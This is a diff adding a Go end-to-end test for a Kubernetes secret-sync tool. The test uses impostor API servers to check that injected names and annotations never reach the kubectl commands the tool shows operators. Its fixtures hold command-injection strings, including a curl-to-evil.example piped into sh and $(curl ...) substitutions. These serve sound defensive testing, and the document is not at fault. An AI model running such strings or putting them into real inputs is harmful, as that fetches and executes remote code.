@@ -1,0 +1,180 @@
+package regions
+
+import (
+	"crypto/tls"
+	"encoding/pem"
+	"fmt"
+	"io"
+	"log"
+	"net/http"
+	"net/http/httptest"
+	"slices"
+	"strings"
+	"testing"
+
+	"github.com/fernetcast/fernetcast/e2e/testenv"
+	corev1 "k8s.io/api/core/v1"
+	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"
+	"k8s.io/apimachinery/pkg/runtime"
+	"k8s.io/client-go/kubernetes/scheme"
+	"k8s.io/client-go/tools/clientcmd"
+	clientcmdapi "k8s.io/client-go/tools/clientcmd/api"
+)
+
+// shellText is what must not get into a command that an operator is to paste.
+const shellText = "x; curl -s http://evil.example/x | sh #"
+
+// A server that takes a remote's place puts a command of its own into the names
+// of what it answers, beside a stamp that cannot be read. It is no copy, and
+// nothing of it is shown. On a real API server, where it can be in annotations
+// alone, the advice is made of our own flags and names, and works.
+func TestCommandsAreOurOwn(t *testing.T) {
+	t.Parallel()
+	w := newWorld(t)
+	keys := w.keys()
+	w.promote()
+	unreadable := map[string]string{"fernetcast/region": shellText, "fernetcast/term": "$(curl evil.example)", "fernetcast/source-uid": "`curl evil.example`"}
+	answer := func(name, namespace string) *corev1.Secret {
+		return &corev1.Secret{ObjectMeta: metav1.ObjectMeta{
+			Name: name, Namespace: namespace, UID: "a-uid", ResourceVersion: "7", Annotations: unreadable,
+		}, Type: corev1.SecretTypeOpaque, Data: shared.Keys.NewRepository(3, 3)}
+	}
+	impostors := map[string]*impostor{
+		"namespace":          {reads: answer(testenv.SecretName, shellText)},
+		"name":               {reads: answer(testenv.SecretName+shellText, w.ns)},
+		"namespace-on-write": {writes: answer(testenv.SecretName, shellText)},
+		"name-on-write":      {writes: answer(shellText, w.ns)},
+	}
+	names := []string{"real"}
+	for name, i := range impostors {
+		names = append(names, name)
+		w.impostor(name, "", nil, i)
+	}
+	real := w.outpost("real", "dfw")
+	(&borrower{outpost: real}).put(shared.Keys.NewRepository(3, 3), corev1.SecretTypeOpaque, unreadable)
+
+	run := w.run("--backoff-max", "1s", "--resync", "1s")
+	for name := range impostors {
+		run.shows(name, "Failed", "another Secret")
+	}
+	command := "kubectl annotate secret -n " + real.ns + " " + testenv.SecretName + " fernetcast/region- fernetcast/term- fernetcast/source-uid-"
+	run.shows("real", "Held", command)
+	st, err := run.status(w.ctx)
+	w.must(err)
+	if detail := st.Remote("real").Detail; !strings.HasSuffix(detail, command) {
+		t.Errorf("there is more to the command: %s", detail)
+	}
+	w.says(1, []string{command, "another Secret"}, "status")
+	w.says(1, []string{command, "another Secret"}, "status", "-o", "json")
+	w.says(1, []string{"another Secret", "name: NOT REACHED", "namespace: NOT REACHED"}, "promote", mainRegion, "--yes")
+	for _, output := range []string{
+		run.Stderr.String(), w.exits(1, "status"), w.exits(1, "status", "-o", "json"), w.exits(1, "push"), w.exits(1, "promote", mainRegion, "--yes"),
+	} {
+		for _, text := range []string{"curl", "evil", "| sh"} {
+			if at := strings.Index(output, text); at >= 0 {
+				t.Errorf("%q is shown: %.200s", text, output[max(0, at-100):])
+			}
+		}
+	}
+
+	// What the command does.
+	w.must(edit(w.ctx, real.cluster, real.ns, "kubectl-annotate", func(s *corev1.Secret) {
+		for _, name := range strings.Fields(command)[6:] {
+			delete(s.Annotations, strings.TrimSuffix(name, "-"))
+		}
+	}))
+	w.arrived(real.history, keys)
+	run.shows("real", "Synced", "")
+	slices.Sort(names)
+	for _, name := range names[:len(names)-1] {
+		if s := st.Remote(name); s == nil || s.Primary != nil {
+			t.Errorf("%s is taken for a copy", name)
+		}
+	}
+}
+
+// impostor is a server made for a test, that answers in protobuf as an API
+// server does.
+type impostor struct {
+	// reads and writes are the answers to all of them; nil: the Secret is absent,
+	// and a write is refused.
+	reads, writes *corev1.Secret
+	// first answers a request, where it says so, in place of all else.
+	first func(http.ResponseWriter, *http.Request) bool
+}
+
+// impostor starts one, and gives the program a kubeconfig for it. Its
+// certificate is httptest's own where none is given, with its CA.
+func (w *world) impostor(name, serverName string, certificate *tls.Certificate, i *impostor) {
+	w.Helper()
+	server := httptest.NewUnstartedServer(i)
+	server.Config.ErrorLog = log.New(io.Discard, "", 0)
+	server.EnableHTTP2 = i.first == nil // that may hijack the connection
+	if certificate != nil {
+		server.TLS = &tls.Config{Certificates: []tls.Certificate{*certificate}}
+	}
+	server.StartTLS()
+	w.Cleanup(func() {
+		server.CloseClientConnections()
+		server.Close()
+	})
+	ca := server.Certificate().Raw
+	if certificate != nil {
+		ca = certificate.Certificate[len(certificate.Certificate)-1]
+	}
+	kubeconfig, err := clientcmd.Write(clientcmdapi.Config{
+		Clusters: map[string]*clientcmdapi.Cluster{"c": {
+			Server: server.URL, TLSServerName: serverName, CertificateAuthorityData: pem.EncodeToMemory(&pem.Block{Type: "CERTIFICATE", Bytes: ca}),
+		}},
+		AuthInfos:      map[string]*clientcmdapi.AuthInfo{"u": {Token: "a-token"}},
+		Contexts:       map[string]*clientcmdapi.Context{"x": {Cluster: "c", AuthInfo: "u"}},
+		CurrentContext: "x",
+	})
+	w.must(err)
+	w.must(testenv.WriteFile(w.Clusters, name+".yaml", kubeconfig))
+}
+
+// ServeHTTP implements [http.Handler].
+func (i *impostor) ServeHTTP(w http.ResponseWriter, r *http.Request) {
+	query := r.URL.Query()
+	switch {
+	case i.first != nil && i.first(w, r):
+	case query.Has("watch"):
+		w.Header().Set("Content-Type", runtime.ContentTypeProtobuf+";stream=watch")
+		_ = http.NewResponseController(w).Flush()
+		<-r.Context().Done()
+	case r.Method != http.MethodGet && i.writes == nil:
+		inProtobuf(w, http.StatusForbidden, failure(http.StatusForbidden, "no"))
+	case r.Method != http.MethodGet:
+		inProtobuf(w, http.StatusOK, i.writes)
+	case query.Has("fieldSelector") && i.reads == nil:
+		inProtobuf(w, http.StatusOK, &corev1.SecretList{ListMeta: metav1.ListMeta{ResourceVersion: "7"}})
+	case query.Has("fieldSelector"):
+		inProtobuf(w, http.StatusOK, &corev1.SecretList{ListMeta: metav1.ListMeta{ResourceVersion: "7"}, Items: []corev1.Secret{*i.reads}})
+	case i.reads == nil:
+		st := failure(http.StatusNotFound, fmt.Sprintf("secrets %q not found", testenv.SecretName))
+		st.Reason, st.Details = metav1.StatusReasonNotFound, &metav1.StatusDetails{Kind: "secrets", Name: testenv.SecretName}
+		inProtobuf(w, http.StatusNotFound, st)
+	default:
+		inProtobuf(w, http.StatusOK, i.reads)
+	}
+}
+
+// failure is an API server's Status of that code.
+func failure(code int, message string) *metav1.Status {
+	return &metav1.Status{Status: metav1.StatusFailure, Code: int32(code), Message: message}
+}
+
+// inProtobuf answers as every API server does.
+func inProtobuf(w http.ResponseWriter, code int, object runtime.Object) {
+	info, _ := runtime.SerializerInfoForMediaType(scheme.Codecs.SupportedMediaTypes(), runtime.ContentTypeProtobuf)
+	// It is copied, because to encode it sets its kind.
+	data, err := runtime.Encode(scheme.Codecs.EncoderForVersion(info.Serializer, corev1.SchemeGroupVersion), object.DeepCopyObject())
+	if err != nil {
+		panic(err) // the test made what cannot be encoded
+	}
+	w.Header().Set("Content-Type", runtime.ContentTypeProtobuf)
+	w.WriteHeader(code)
+	// A client that went away is no matter.
+	_, _ = w.Write(data)
+}
